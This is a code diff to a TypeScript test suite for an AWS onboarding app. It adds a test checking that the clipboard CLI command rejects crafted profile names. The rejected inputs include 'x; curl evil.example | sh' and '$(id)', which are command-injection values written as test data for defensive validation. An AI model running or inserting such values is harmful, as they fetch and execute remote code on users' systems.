@@ -23,14 +23,16 @@ let sandbox: Sandbox;
 let logLines: string[];
 let outputs: unknown[];
 let handlers: HandlerTable;
+let ports: ReturnType<typeof createNodePorts>;
 
 beforeEach(async () => {
   sandbox = await startSandbox({ accountAlias: 'acme-prod' });
   logLines = [];
   outputs = [];
   const { AWS_ACCESS_KEY_ID: _k, AWS_SECRET_ACCESS_KEY: _s, ...env } = sandbox.env;
+  ports = createNodePorts();
   handlers = composeApp({
-    platform: createNodePorts(),
+    platform: ports,
     log: createLogger((l) => logLines.push(l)),
     env,
     info: { version: 'test', platform: 'test' },
@@ -173,6 +175,16 @@ describe('onboarding handlers against the sandbox', () => {
     await signIn(user);
     expect(await fails('onboarding:startMfa')).toMatchObject({ code: 'onboarding.mfaDenied', params: { action: 'iam:CreateVirtualMFADevice' } });
     expect(sandbox.state.listVirtualMfaDevices()).toEqual([]);
+  });
+
+  it('the finish screen\'s command is built in main from a profile name; a crafted name never reaches the clipboard', async () => {
+    expect(await ok('onboarding:copyCliCommand', { profile: 'jdoe-acme-prod-2' })).toEqual({ copied: true });
+    expect(ports.clipboard.read()).toBe('aws sts get-caller-identity --profile jdoe-acme-prod-2');
+    expect(ports.clipboard.concealed()).toBe(false);
+    for (const profile of ['x; curl evil.example | sh', 'a\nb', '$(id)', '', 'x'.repeat(129)]) {
+      expect((await fails('onboarding:copyCliCommand', { profile })).code, profile).toBe('ipc.invalidInput');
+    }
+    expect(ports.clipboard.read()).toBe('aws sts get-caller-identity --profile jdoe-acme-prod-2');
   });
 
   it('cancel wipes the session', async () => {
